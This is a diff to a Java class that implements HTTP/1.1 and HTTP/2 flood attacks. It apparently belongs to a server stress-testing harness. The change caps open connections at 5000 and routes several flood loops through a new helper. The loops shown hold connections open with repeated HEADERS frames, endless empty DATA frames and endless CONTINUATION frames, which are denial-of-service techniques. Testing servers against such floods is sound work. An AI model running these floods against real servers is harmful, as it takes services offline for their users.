@@ -17,6 +17,7 @@ import java.util.stream.Stream;
 /** Attacks by HTTP/1.1 and HTTP/2, in clear text or inside of TLS. */
 final class FloodAttacks {
     private static final int INITIAL_WINDOW = 4;
+    private static final int MAX_OPEN = 5000;
 
     private final AttackTarget target;
 
@@ -42,6 +43,15 @@ final class FloodAttacks {
 
     private static boolean isOver(long endNanos) {
         return System.nanoTime() - endNanos >= 0;
+    }
+
+    /** Keeps a connection open until the attack is over, or ends the oldest one instead if there are too many for this process. */
+    private static Attacker keep(Attacker attacker, List<Attacker> opened) throws Exception {
+        opened.add(attacker);
+        if (opened.size() > MAX_OPEN) {
+            opened.removeFirst().reset();
+        }
+        return attacker;
     }
 
     private void slowHeads(long end, List<Attacker> opened) throws Exception {
@@ -118,8 +128,7 @@ final class FloodAttacks {
         int stream = 1;
         while (!isOver(end)) {
             if (attacker == null || attacker.isEnded()) {
-                attacker = target.http2();
-                opened.add(attacker);
+                attacker = keep(target.http2(), opened);
                 stream = 1;
             }
             attacker.bytes(Attacker.frame(HEADERS, END_HEADERS, stream, block));
@@ -146,8 +155,7 @@ final class FloodAttacks {
         int stream = 1;
         while (!isOver(end)) {
             if (attacker == null || attacker.isEnded()) {
-                attacker = target.http2();
-                opened.add(attacker);
+                attacker = keep(target.http2(), opened);
                 stream = 1;
             }
             attacker.bytes(Attacker.frame(HEADERS, END_HEADERS | END_STREAM, stream, block))
@@ -168,8 +176,7 @@ final class FloodAttacks {
         byte[] head = Attacker.frame(HEADERS, END_HEADERS, 1, Attacker.request("POST", "/upload"));
         byte[] empty = Attacker.frame(DATA, 0, 1);
         while (!isOver(end)) {
-            Attacker attacker = target.http2().bytes(head);
-            opened.add(attacker);
+            Attacker attacker = keep(target.http2().bytes(head), opened);
             while (!isOver(end) && !attacker.isEnded()) {
                 attacker.bytes(empty);
             }
@@ -180,8 +187,7 @@ final class FloodAttacks {
         byte[] head = Attacker.frame(HEADERS, 0, 1, Attacker.request("GET", "/ok"));
         byte[] field = Attacker.frame(CONTINUATION, 0, 1, (byte) 0, (byte) 1, (byte) 'x', (byte) 1, (byte) 'y');
         while (!isOver(end)) {
-            Attacker attacker = target.http2().bytes(head);
-            opened.add(attacker);
+            Attacker attacker = keep(target.http2().bytes(head), opened);
             while (!isOver(end) && !attacker.isEnded()) {
                 attacker.bytes(field);
             }
